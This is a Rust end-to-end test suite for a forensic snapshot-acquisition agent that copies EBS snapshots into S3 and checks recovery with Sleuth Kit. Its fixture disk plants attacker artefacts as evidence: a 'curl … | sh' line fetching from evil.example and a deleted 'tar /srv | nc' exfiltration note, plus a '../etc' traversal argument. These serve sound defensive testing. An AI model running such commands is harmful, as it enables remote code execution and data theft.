//! `airf-agent snapshot` end to end: EBS snapshots planted in moto's EBS direct APIs (made
//! AWS-like by tests/scripts/moto_ebs.py) from a real ext4 image, acquired into Garage, then
//! restored with the zstd CLI and read with Sleuth Kit; faults, pending snapshots, refusals and
//! `--baseline`.

use std::path::{Path, PathBuf};
use std::process::Command;

use airf_e2e::ebs_snapshots::{BLOCK, Ebs};
use airf_e2e::{S3Server, ServerKind, agent_bin, run_agent, run_ok, sha256_file};
use anyhow::{Context, Result, ensure};
use serde_json::Value;

const CASE: &str = "IR-2026-0314";
const INSTANCE: &str = "i-0aaaabbbbccccdddd";
/// The member account's snapshot reader, as template 4 names it (tests/iam/deployment.py).
const READER_ROLE: &str = "arn:aws:iam::123456789012:role/AirfSnapshotReader";

/// A 1 GiB ext4 image with files, a 64 MiB file (so the listing takes several pages) and a
/// file deleted with debugfs (whose inode and blocks Sleuth Kit can still recover).
struct Image {
    _dir: tempfile::TempDir,
    path: PathBuf,
    deleted_inode: String,
    deleted_body: Vec<u8>,
}

fn ext4_image() -> Result<Image> {
    let dir = tempfile::Builder::new().prefix("airf-snap-").tempdir()?;
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("home/attacker"))?;
    std::fs::create_dir_all(root.join("var/tmp/.x"))?;
    std::fs::write(
        root.join("etc-passwd"),
        b"root:x:0:0:root:/root:/bin/bash\n",
    )?;
    std::fs::write(
        root.join("home/attacker/.bash_history"),
        b"curl http://evil.example/x | sh\n",
    )?;
    let deleted_body = b"exfil plan: tar /srv | nc 203.0.113.9 443\n".to_vec();
    std::fs::write(root.join("home/attacker/plan.txt"), &deleted_body)?;
    let mut big = vec![0u8; 64 << 20];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom")?, &mut big)?;
    std::fs::write(root.join("var/tmp/.x/payload.bin"), &big)?;
    let path = dir.path().join("disk.img");
    run_ok(
        Command::new("mkfs.ext4")
            .args(["-q", "-F", "-d"])
            .arg(&root)
            .arg(&path)
            .arg("1G"),
    )
    .context("mkfs.ext4 (apt-get install e2fsprogs)")?;
    let stat = run_ok(
        Command::new("debugfs")
            .args(["-R", "stat /home/attacker/plan.txt"])
            .arg(&path),
    )?;
    let deleted_inode = String::from_utf8_lossy(&stat.stdout)
        .lines()
        .find_map(|l| {
            l.strip_prefix("Inode: ")
                .and_then(|r| r.split_whitespace().next())
                .map(str::to_owned)
        })
        .context("debugfs stat printed no inode")?;
    // debugfs unlinks and frees without zeroing the inode's extents, as a deletion in a crashed
    // or snapshotted system leaves them.
    run_ok(
        Command::new("debugfs")
            .args(["-w", "-R", "rm /home/attacker/plan.txt"])
            .arg(&path),
    )?;
    Ok(Image {
        _dir: dir,
        path,
        deleted_inode,
        deleted_body,
    })
}

/// The agent, reading EC2/EBS/STS in `moto` and writing to `s3` (given with `--endpoint-url`,
/// as a deployment that writes to a non-AWS S3 would; no global AWS_ENDPOINT_URL).
fn agent(moto: &S3Server, s3: &S3Server) -> Result<Command> {
    let endpoint = moto.endpoint()?;
    let mut cmd = s3.command(agent_bin()?);
    cmd.env_remove("AWS_ENDPOINT_URL").envs([
        ("AWS_ENDPOINT_URL_EBS", endpoint.as_str()),
        ("AWS_ENDPOINT_URL_EC2", endpoint.as_str()),
        ("AWS_ENDPOINT_URL_STS", endpoint.as_str()),
    ]);
    // Garage's region is "garage": the snapshots are in moto's us-east-1.
    cmd.args([
        "snapshot",
        "--endpoint-url",
        &s3.endpoint()?,
        "--snapshot-region",
        airf_e2e::emulator::REGION,
    ]);
    Ok(cmd)
}

fn faults(moto: &S3Server, faults: &Value) -> Result<()> {
    let dir = ssm_output(moto)?;
    std::fs::write(dir.join("faults.json"), faults.to_string())?;
    Ok(())
}

fn ssm_output(moto: &S3Server) -> Result<PathBuf> {
    moto.env
        .iter()
        .find(|(k, _)| k == "AIRF_SSM_OUTPUT_DIR")
        .map(|(_, v)| PathBuf::from(v))
        .context("moto printed no AIRF_SSM_OUTPUT_DIR")
}

fn to(s3: &S3Server) -> String {
    format!("s3://{}/snapshots/", s3.bucket)
}

/// `snapshot ID` on moto into moto's bucket, 5 MiB parts, plus `extra` options.
fn acquire(moto: &S3Server, id: &str, extra: &[&str]) -> Result<airf_e2e::AgentRun> {
    run_agent(
        agent(moto, moto)?
            .arg(id)
            .args([
                "--to",
                &to(moto),
                "--case",
                CASE,
                "--part-size",
                "5MiB",
                "--json",
            ])
            .args(extra),
    )
}

/// The manifest a run stored, read back.
fn stored_manifest(server: &S3Server, run: &airf_e2e::AgentRun) -> Result<Value> {
    let key = run
        .json
        .pointer("/sources/0/manifest/key")
        .and_then(Value::as_str)
        .with_context(|| format!("no manifest in {}", run.stdout))?;
    Ok(serde_json::from_slice(&server.get(key)?)?)
}

fn decompress_to(compressed: &[u8], out: &Path) -> Result<()> {
    let packed = out.with_extension("zst");
    std::fs::write(&packed, compressed)?;
    run_ok(
        Command::new("zstd")
            .args(["-d", "-q", "-f", "-o"])
            .arg(out)
            .arg(&packed),
    )?;
    std::fs::remove_file(&packed)?;
    Ok(())
}

#[test]
fn round_trip_through_the_ebs_direct_apis_with_sleuth_kit() -> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let garage = S3Server::start(ServerKind::Garage)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    // Pages of 100 blocks: the 64 MiB file alone is 128 blocks.
    std::fs::write(ssm_output(&moto)?.join("ebs-page-size"), "100")?;
    let planted = ebs.plant(
        &image.path,
        1,
        &[("airf:case", CASE), ("airf:instance", INSTANCE)],
        None,
        true,
    )?;
    ensure!(
        planted.written.len() > 100,
        "only {} blocks planted",
        planted.written.len()
    );
    // The second page's token has expired (they live 60 minutes): the listing resumes by index.
    faults(
        &moto,
        &serde_json::json!({ "ebs:ListSnapshotBlocks:page": ["ExpiredPageToken", 1] }),
    )?;

    let run = run_agent(agent(&moto, &garage)?.arg(&planted.id).args([
        "--to",
        &to(&garage),
        "--case",
        CASE,
        "--role-arn",
        READER_ROLE,
        "--part-size",
        "5MiB",
        "--json",
    ]))?;
    ensure!(
        run.code == 0 && run.json["status"] == "complete",
        "agent failed: {run:?}"
    );
    let src = &run.json["sources"][0];
    let image_key = src["image"]["key"]
        .as_str()
        .context("image key")?
        .to_owned();
    let manifest_key = src["manifest"]["key"]
        .as_str()
        .context("manifest key")?
        .to_owned();
    ensure!(
        image_key.starts_with(&format!("snapshots/{CASE}/{INSTANCE}/"))
            && image_key.ends_with(&format!("/{}.raw.zst", planted.id)),
        "{image_key}"
    );

    let manifest: Value = serde_json::from_slice(&garage.get(&manifest_key)?)?;
    let source = &manifest["source"];
    ensure!(
        manifest["kind"] == "disk" && source["type"] == "snapshot",
        "{manifest}"
    );
    ensure!(source["snapshot_id"] == planted.id.as_str(), "{source}");
    ensure!(
        source["volume_id"] == ebs.volume_of(&planted.id)?.as_str(),
        "{source}"
    );
    ensure!(
        source["instance_id"] == INSTANCE && source["region"] == "us-east-1",
        "{source}"
    );
    ensure!(
        source["volume_size_gib"] == 1 && source["volume_size"] == 1u64 << 30,
        "{source}"
    );
    ensure!(
        source["block_size"] == BLOCK && source["listed_blocks"] == planted.written.len(),
        "{source}"
    );
    ensure!(
        source["reads"]["blocks_read"] == planted.written.len()
            && source["reads"]["list_pages"].as_u64() >= Some(2),
        "{source}"
    );
    ensure!(
        source["start_time"].is_string() && source["encrypted"] == false,
        "{source}"
    );
    ensure!(source["tags"].to_string().contains(INSTANCE), "{source}");
    ensure!(manifest["raw"]["size"] == 1u64 << 30, "{manifest}");
    let left: Value = serde_json::from_str(&std::fs::read_to_string(
        ssm_output(&moto)?.join("faults.json"),
    )?)?;
    ensure!(
        left["ebs:ListSnapshotBlocks:page"][1] == 0,
        "no page token expired: {left}"
    );

    // The analyst's path: download, decompress with the zstd CLI, read with Sleuth Kit.
    let work = tempfile::tempdir()?;
    let restored = work.path().join("restored.img");
    decompress_to(&garage.get(&image_key)?, &restored)?;
    ensure!(
        sha256_file(&restored)? == sha256_file(&image.path)?,
        "the restored volume differs from the planted image"
    );
    ensure!(
        manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(),
        "{manifest}"
    );
    let listing = airf_e2e::fls(&restored)?;
    for path in [
        "home/attacker/.bash_history",
        "var/tmp/.x/payload.bin",
        "etc-passwd",
    ] {
        ensure!(
            listing.contains(path),
            "fls does not list {path}:\n{listing}"
        );
    }
    ensure!(
        listing
            .lines()
            .any(|l| l.contains(&format!("* {}:", image.deleted_inode))
                && l.ends_with("home/attacker/plan.txt")),
        "fls does not list the deleted file:\n{listing}"
    );
    let icat = run_ok(
        Command::new("icat")
            .arg(&restored)
            .arg(&image.deleted_inode),
    )?;
    ensure!(
        icat.stdout == image.deleted_body,
        "icat recovered {:?}",
        String::from_utf8_lossy(&icat.stdout)
    );

    let verify = run_agent(garage.command(agent_bin()?).args([
        "verify",
        &format!("s3://{}/{manifest_key}", garage.bucket),
        "--json",
    ]))?;
    ensure!(
        verify.code == 0 && verify.json["status"] == "intact",
        "verify: {verify:?}"
    );
    Ok(())
}

#[test]
fn a_block_that_never_matches_its_checksum_fails_naming_it_and_one_that_heals_is_reread()
-> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
    let bad = *planted.written.get(3).context("a fourth block")?;

    // Corrupted on every read: the run fails, names the block, and stores nothing.
    faults(
        &moto,
        &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 10] }),
    )?;
    let run = acquire(&moto, &planted.id, &[])?;
    let error = run.json["sources"][0]["error"]
        .as_str()
        .unwrap_or("")
        .to_owned();
    ensure!(run.code == 1 && run.json["status"] == "failed", "{run:?}");
    let offset = bad * BLOCK as u64;
    ensure!(
        error.contains(&format!("block {bad} (bytes {offset}.."))
            && error.contains("does not match the x-amz-Checksum"),
        "{error}"
    );
    ensure!(
        moto.keys("snapshots/")?.is_empty(),
        "something was stored: {:?}",
        moto.keys("snapshots/")?
    );
    ensure!(moto.open_uploads()?.is_empty(), "an upload was left open");

    // Corrupted once (a bad transfer): read again, and the image is right.
    faults(
        &moto,
        &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 1] }),
    )?;
    let run = acquire(&moto, &planted.id, &[])?;
    ensure!(run.code == 0, "{run:?}");
    let manifest = stored_manifest(&moto, &run)?;
    ensure!(
        manifest["source"]["reads"]["checksum_retries"] == 1,
        "{manifest}"
    );
    ensure!(
        manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(),
        "{manifest}"
    );
    Ok(())
}

#[test]
fn throttling_and_server_error_bursts_are_retried_and_the_image_is_right() -> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
    let want = sha256_file(&image.path)?;
    for (code, times) in [
        ("RequestThrottledException", 16),
        ("InternalServerException", 16),
    ] {
        faults(
            &moto,
            &serde_json::json!({ "ebs:GetSnapshotBlock": [code, times], "ebs:ListSnapshotBlocks": [code, 3] }),
        )?;
        let run = acquire(&moto, &planted.id, &[])?;
        ensure!(run.code == 0, "{code}: {run:?}");
        let manifest = stored_manifest(&moto, &run)?;
        ensure!(
            manifest["raw"]["sha256"] == want.as_str(),
            "{code}: {manifest}"
        );
        let left: Value = serde_json::from_str(&std::fs::read_to_string(
            ssm_output(&moto)?.join("faults.json"),
        )?)?;
        ensure!(
            left["ebs:GetSnapshotBlock"][1] == 0 && left["ebs:ListSnapshotBlocks"][1] == 0,
            "{code}: faults not all served: {left}"
        );
    }
    Ok(())
}

#[test]
fn a_pending_snapshot_is_waited_for_and_one_that_stays_pending_is_refused() -> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, false)?;

    let run = acquire(&moto, &planted.id, &["--wait-timeout", "2"])?;
    let error = run.json["errors"].to_string();
    ensure!(
        run.code == 1 && error.contains("is still pending") && error.contains("--wait-timeout"),
        "{run:?}"
    );
    ensure!(moto.keys("snapshots/")?.is_empty(), "something was stored");

    let child = agent(&moto, &moto)?
        .arg(&planted.id)
        .args([
            "--to",
            &to(&moto),
            "--case",
            CASE,
            "--wait-timeout",
            "120",
            "--json",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()?;
    std::thread::sleep(std::time::Duration::from_secs(3));
    ebs.complete(&planted.id, planted.written.len())?;
    let run = airf_e2e::AgentRun::from_output(&child.wait_with_output()?);
    ensure!(run.code == 0 && run.json["status"] == "complete", "{run:?}");
    ensure!(
        run.stderr.contains(&format!("{} is pending", planted.id)),
        "no word of the wait: {}",
        run.stderr
    );
    Ok(())
}

#[test]
fn unknown_refused_and_malformed_snapshots_fail_clearly_and_store_nothing() -> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;

    let run = run_agent(agent(&moto, &moto)?.args([
        "snap-0123456789abcdef0",
        "--to",
        &to(&moto),
        "--case",
        CASE,
        "--json",
    ]))?;
    ensure!(
        run.code == 1
            && run.json["errors"]
                .to_string()
                .contains("snap-0123456789abcdef0 was not found in us-east-1"),
        "{run:?}"
    );

    faults(
        &moto,
        &serde_json::json!({ "ebs:ListSnapshotBlocks": ["AccessDeniedException", 1] }),
    )?;
    let run = acquire(&moto, &planted.id, &[])?;
    let errors = run.json["errors"].to_string();
    ensure!(
        run.code == 1
            && errors.contains("ebs:ListSnapshotBlocks")
            && errors.contains("AccessDeniedException")
            && errors.contains("kms:Decrypt"),
        "{run:?}"
    );
    ensure!(moto.keys("snapshots/")?.is_empty(), "something was stored");

    for args in [
        vec!["snap-XYZ"],
        vec![planted.id.as_str(), planted.id.as_str()],
        vec![
            planted.id.as_str(),
            "snap-0123456789abcdef0",
            "--baseline",
            "snap-0123456789abcdef1",
        ],
        vec![planted.id.as_str(), "--baseline", planted.id.as_str()],
        vec![planted.id.as_str(), "--instance", "../etc"],
        vec![planted.id.as_str(), "--role-arn", "AirfSnapshotReader"],
        vec![planted.id.as_str(), "--max-block-rate", "1001"],
        vec![planted.id.as_str(), "--wait-timeout", "0"],
    ] {
        let run = run_agent(agent(&moto, &moto)?.args(&args).args([
            "--to",
            &to(&moto),
            "--case",
            CASE,
            "--json",
        ]))?;
        ensure!(
            run.code == 2,
            "{args:?} was not refused as bad usage: {run:?}"
        );
    }
    Ok(())
}

#[test]
fn a_baseline_lists_exactly_the_blocks_changed_since() -> Result<()> {
    let moto = S3Server::start(ServerKind::Moto)?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&moto)?;
    let nightly = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
    // The incident's snapshot: the nightly's blocks, then writes over some and new ones.
    let empty = tempfile::NamedTempFile::new()?;
    let incident = ebs.plant(
        empty.path(),
        1,
        &[("airf:case", CASE)],
        Some(&nightly.id),
        false,
    )?;
    let rewritten = *nightly.written.first().context("a written block")?;
    let mut changed = vec![rewritten, 1000, 1001, 1500];
    for &i in &changed {
        ebs.write_block(&incident.id, i, &vec![0x5a; BLOCK])?;
    }
    ebs.complete(&incident.id, changed.len())?;
    changed.sort_unstable();

    let run = acquire(&moto, &incident.id, &["--baseline", &nightly.id])?;
    ensure!(run.code == 0, "{run:?}");
    let manifest = stored_manifest(&moto, &run)?;
    let baseline = &manifest["source"]["baseline"];
    ensure!(
        baseline["baseline_snapshot_id"] == nightly.id.as_str() && baseline["changed_blocks"] == 4,
        "{baseline}"
    );
    let listed: Vec<u64> = baseline["ranges"]
        .as_array()
        .context("ranges")?
        .iter()
        .flat_map(|r| {
            let (s, n) = (r[0].as_u64().unwrap_or(0), r[1].as_u64().unwrap_or(0));
            s..s + n
        })
        .collect();
    ensure!(
        listed == changed,
        "changed blocks {listed:?}, planted {changed:?}"
    );

    // A snapshot of another volume is no baseline.
    let other = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
    let run = acquire(&moto, &incident.id, &["--baseline", &other.id])?;
    ensure!(
        run.code == 1 && run.json["errors"].to_string().contains("same volume"),
        "{run:?}"
    );
    Ok(())
}

/// As deployed: the agent runs with the Fargate task's role (template 3) and reads through the
/// member account's reader role (template 4), writing to the deployment's evidence bucket with
/// its KMS key. Every call is recorded and evaluated against the templates' policies.
#[test]
fn the_deployed_task_and_reader_roles_acquire_a_case_snapshot() -> Result<()> {
    let emu = airf_e2e::emulator::Emulator::start("")?;
    let image = ext4_image()?;
    let ebs = Ebs::on(&emu.server)?;
    let planted = ebs.plant(
        &image.path,
        1,
        &[("airf:case", CASE), ("airf:instance", INSTANCE)],
        None,
        true,
    )?;
    let creds = emu.role_credentials(&emu.deployment.snapshot_task_role, "ecs-task-snapshot")?;
    let reader = format!(
        "arn:aws:iam::{}:role/{}",
        airf_e2e::emulator::ACCOUNT,
        emu.deployment.snapshot_reader_role
    );
    let mut cmd = emu.server.command(agent_bin()?);
    cmd.arg("snapshot")
        .arg(&planted.id)
        .arg(format!(
            "--to=s3://{}/{}/",
            emu.config.evidence_bucket, emu.config.evidence_prefix
        ))
        .args([
            "--case",
            CASE,
            "--role-arn",
            &reader,
            "--no-progress",
            "--json",
        ])
        .env("AWS_ACCESS_KEY_ID", creds.access_key_id())
        .env("AWS_SECRET_ACCESS_KEY", creds.secret_access_key())
        .env(
            "AWS_SESSION_TOKEN",
            creds.session_token().unwrap_or_default(),
        );
    if !emu.config.kms_key_id.is_empty() {
        cmd.arg(format!("--sse-kms-key-id={}", emu.config.kms_key_id));
    }
    let run = run_agent(&mut cmd)?;
    ensure!(run.code == 0 && run.json["status"] == "complete", "{run:?}");
    // Each call as the role that must make it: the reader reads, the task role writes.
    let made: Vec<(String, String)> = emu
        .calls
        .records()?
        .iter()
        .map(|r| {
            let op = format!(
                "{}:{}",
                r["service"].as_str().unwrap_or(""),
                r["operation"].as_str().unwrap_or("")
            );
            (op, r["principal"]["arn"].as_str().unwrap_or("").to_owned())
        })
        .collect();
    for (op, role) in [
        ("sts:AssumeRole", &emu.deployment.snapshot_task_role),
        (
            "ec2:DescribeSnapshots",
            &emu.deployment.snapshot_reader_role,
        ),
        (
            "ebs:ListSnapshotBlocks",
            &emu.deployment.snapshot_reader_role,
        ),
        ("ebs:GetSnapshotBlock", &emu.deployment.snapshot_reader_role),
        (
            "s3:CompleteMultipartUpload",
            &emu.deployment.snapshot_task_role,
        ),
        ("s3:PutObject", &emu.deployment.snapshot_task_role),
    ] {
        ensure!(
            made.iter()
                .any(|(o, arn)| o == op && arn.contains(&format!(":assumed-role/{role}/"))),
            "no {op} recorded as {role}: {made:?}"
        );
    }
    emu.check_iam()?;
    Ok(())
}
